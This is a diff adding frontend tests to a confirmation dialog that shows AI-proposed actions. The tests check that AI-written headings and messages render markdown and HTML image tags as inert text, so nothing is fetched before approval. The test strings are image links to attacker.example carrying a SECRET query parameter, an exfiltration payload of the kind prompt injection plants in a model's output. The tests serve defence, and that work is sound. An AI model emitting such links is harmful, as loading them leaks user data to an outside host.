@@ -98,6 +98,42 @@ describe('ConfirmationModal', () => {
         expect(pre).toBeTruthy();
     });
 
+    it('shows the value the model chose in the heading as code marked as the AI\'s, never as markup', async () => {
+        const hostile = '![a](https://attacker.example/p.png?d=SECRET) <img src="https://attacker.example/i.png">';
+        fakeServer({[`GET ${BASE}/${ID}`]: {body: detail({
+            action: 'create_channel', heading: `Create the public channel “${hostile}” in Acme`, message: '', files: [], notes: [],
+            heading_line: [{text: 'Create the public channel '}, {text: hostile, ai: true}, {text: ' in Acme'}],
+        })}});
+        openModal();
+
+        const dialog = screen.getByRole('dialog');
+        await within(dialog).findByText(hostile);
+        const title = within(dialog).getByRole('heading', {level: 2});
+        expect(title.textContent).toBe(`Create the public channel ${hostile} in Acme`);
+        const code = title.querySelector('code');
+        expect(code?.textContent).toBe(hostile);
+        expect(code?.getAttribute('title')).toBe('Written by the AI');
+        expect(dialog.querySelector('img')).toBeNull();
+    });
+
+    it('shows an image in the model\'s message as words saying where it points, so nothing is fetched before the answer', async () => {
+        fakeServer({[`GET ${BASE}/${ID}`]: {body: detail({message: '![a](https://attacker.example/p.png?d=SECRET)', files: []})}});
+        const seen: string[] = [];
+        window.PostUtils = {
+            formatText: vi.fn(() => '<p>look <img src="https://attacker.example/p.png?d=SECRET" alt="a"> <span data-emoticon="tada">:tada:</span></p>'),
+            messageHtmlToComponent: vi.fn((html: string) => {
+                seen.push(html);
+                return <div data-testid='rendered'>{html}</div>;
+            }),
+        };
+        openModal();
+
+        await screen.findByTestId('rendered');
+        expect(seen[0]).not.toContain('<img');
+        expect(seen[0]).toContain('[image “a” from https://attacker.example/p.png?d=SECRET]');
+        expect(seen[0]).toContain('data-emoticon="tada"');
+    });
+
     it('shows an edit as the new message and the one it replaces', async () => {
         fakeServer({[`GET ${BASE}/${ID}`]: {body: detail({action: 'edit', message: 'new words', previous: 'old words', files: []})}});
         openModal();
